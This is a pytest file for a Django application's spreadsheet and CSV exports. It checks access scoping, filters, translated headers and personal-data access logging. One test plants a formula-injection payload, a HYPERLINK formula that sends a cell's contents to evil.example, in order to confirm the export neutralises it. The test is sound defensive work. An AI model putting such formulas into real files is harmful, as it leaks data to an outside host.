"""Exports of every list (issue 13): each opens in openpyxl (or reads as CSV) with the rows the
reader may see and the page's filters, translated headers and labels, formula-safe cells, and
one access-log row when the file names volunteers."""

import csv
import io

import pytest
from django.urls import reverse
from openpyxl import load_workbook

from reciprocity.agreements.tests.factories import AgreementFactory
from reciprocity.applications.tests.factories import ApplicationChoiceFactory, ApplicationFactory
from reciprocity.procedures.services import procedure_open_for_placement
from reciprocity.procedures.tests.conftest import NOW, TODAY
from reciprocity.volunteers.models import AccessAction, PersonalDataBulkAccess

pytestmark = pytest.mark.django_db


def sheet_rows(response):  # type: ignore[no-untyped-def]
    assert response.status_code == 200
    assert response["Content-Type"].startswith("application/vnd.openxmlformats")
    sheet = load_workbook(io.BytesIO(response.content)).active
    return [list(row) for row in sheet.iter_rows(values_only=True)]


def csv_rows(response):  # type: ignore[no-untyped-def]
    assert response.status_code == 200
    return list(csv.reader(io.StringIO(response.content.decode("utf-8-sig"))))


@pytest.fixture
def procedures(placement, other_placement):  # type: ignore[no-untyped-def]
    return (procedure_open_for_placement(placement=placement, today=TODAY, now=NOW),
            procedure_open_for_placement(placement=other_placement, today=TODAY, now=NOW))


def test_placements_export_holds_the_readers_placements_only(
        client, placement, other_placement, host_officer):
    client.force_login(host_officer)

    rows = sheet_rows(client.get(reverse("placements:list") + "?format=xlsx"))

    assert rows[0] == ["Volunteer", "Mission", "Host", "Sending organisation", "Start", "End",
                       "Status"]
    assert [r[1] for r in rows[1:]] == [placement.mission.title]
    assert rows[1][6] == "Confirmed"  # the label, not the code
    log = PersonalDataBulkAccess.objects.get()
    assert (log.actor, log.action, log.volunteer_ids) == (
        host_officer, AccessAction.EXPORT, [placement.volunteer_id])


def test_the_page_filters_apply_to_the_export(client, placement, host_officer):
    client.force_login(host_officer)

    rows = csv_rows(client.get(reverse("placements:list") + "?status=cancelled&format=csv"))

    assert len(rows) == 1  # the headers only


def test_applications_export_is_scoped_and_logged(client, placement, other_placement,
                                                  host_officer, sender_officer, outsider):
    mine = ApplicationChoiceFactory(
        application=ApplicationFactory(volunteer=placement.volunteer), mission=placement.mission)
    ApplicationChoiceFactory(mission=other_placement.mission)

    for user in (host_officer, sender_officer):
        client.force_login(user)
        rows = sheet_rows(client.get(reverse("applications:list") + "?format=xlsx"))
        assert [r[0] for r in rows[1:]] == [mine.application_id], user
        assert rows[1][5] == "Submitted"
    client.force_login(outsider)
    assert len(sheet_rows(client.get(reverse("applications:list") + "?format=xlsx"))) == 1
    assert PersonalDataBulkAccess.objects.count() == 2  # nobody in the outsider's file


def test_volunteers_export_is_scoped(client, placement, other_placement, sender_officer):
    client.force_login(sender_officer)

    rows = csv_rows(client.get(reverse("volunteers:list") + "?format=csv"))

    assert rows[0] == ["Name", "Reference", "Nationality", "Sending organisation"]
    assert [r[1] for r in rows[1:]] == [placement.volunteer.reference]
    assert rows[1][2] == "Senegal"
    assert PersonalDataBulkAccess.objects.filter(actor=sender_officer).count() == 1


def test_steps_due_export_lists_the_readers_steps_with_titles(
        client, procedures, host_officer, staff):
    mine, theirs = procedures
    client.force_login(host_officer)

    rows = sheet_rows(client.get(reverse("procedures:due") + "?format=xlsx"))

    assert len(rows) - 1 == mine.steps.count()
    assert any(r[2].startswith("Medical visit") for r in rows[1:])
    assert {r[7] for r in rows[1:]} <= {"To do", "In progress", "Blocked"}
    client.force_login(staff)
    rows = sheet_rows(client.get(reverse("procedures:due") + "?format=xlsx"))
    assert len(rows) - 1 == mine.steps.count() + theirs.steps.count()


def test_missions_export_neutralises_formulas(client, placement, host_officer):
    placement.mission.title = '=HYPERLINK("http://evil.example/?"&B2,"x")'
    placement.mission.save()
    client.force_login(host_officer)

    rows = sheet_rows(client.get(reverse("missions:mine") + "?format=xlsx"))

    assert rows[1][1] == "'" + placement.mission.title
    csv_cells = csv_rows(client.get(reverse("missions:mine") + "?format=csv"))
    assert csv_cells[1][1].startswith("'=")


def test_public_catalogue_exports_without_personal_data(client, placement):
    rows = csv_rows(client.get(reverse("missions:list") + "?format=csv"))

    assert rows[0][:3] == ["Reference", "Mission", "Host"]
    assert not PersonalDataBulkAccess.objects.exists()


def test_agreements_export_is_scoped(client, host, host_officer, outsider):
    shared = AgreementFactory(party_a=host)
    AgreementFactory()
    client.force_login(host_officer)

    rows = sheet_rows(client.get(reverse("agreements:list") + "?format=xlsx"))

    assert [r[0] for r in rows[1:]] == [shared.reference]
    assert rows[1][11] == "Active"
    client.force_login(outsider)
    assert len(sheet_rows(client.get(reverse("agreements:list") + "?format=xlsx"))) == 1


def test_headers_and_labels_are_translated(client, placement, host_officer):
    client.force_login(host_officer)

    rows = sheet_rows(client.get(reverse("placements:list") + "?format=xlsx",
                                 HTTP_ACCEPT_LANGUAGE="fr"))

    assert rows[0][0] == "Volontaire"
    assert rows[0][6] == "Statut"
    assert rows[1][6] != "confirmed"


def test_list_pages_link_to_their_exports(client, placement, host_officer):
    client.force_login(host_officer)

    body = client.get(reverse("placements:list") + "?status=confirmed").content.decode()

    assert "?status=confirmed&amp;format=xlsx" in body
